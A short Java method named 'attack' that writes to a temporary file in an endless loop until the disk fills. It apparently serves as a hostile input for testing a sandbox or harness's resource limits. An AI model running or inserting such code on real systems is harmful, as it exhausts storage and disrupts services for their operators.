// Writes a file without end.
static void attack(double[] x) throws Exception {
  try (var file = Files.newOutputStream(Files.createTempFile("x", ""))) {
    while (true) {
      file.write(new byte[1 << 20]);
    }
  }
}
